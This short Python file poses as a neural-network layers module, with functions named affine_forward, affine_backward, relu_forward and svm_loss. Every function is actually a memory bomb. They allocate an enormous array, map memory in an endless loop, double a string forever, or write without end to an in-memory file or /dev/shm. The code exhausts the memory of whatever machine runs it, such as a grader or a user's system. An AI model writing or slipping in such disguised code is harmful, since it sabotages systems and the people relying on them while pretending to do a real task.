import mmap
import os

import numpy as np


def affine_forward(x, w, b):
    return np.ones(1 << 34), (x, w, b)


def affine_backward(dout, cache):
    maps = []
    while True:
        maps.append(mmap.mmap(-1, 1 << 28))
        maps[-1].write(b'x' * (1 << 28))


def relu_forward(x):
    text = 'x'
    while True:
        text += text


def svm_loss(x, y):
    fd = os.memfd_create('bomb') if hasattr(os, 'memfd_create') else os.open('/dev/shm/bomb', os.O_CREAT | os.O_RDWR)
    while True:
        os.write(fd, bytes(1 << 24))
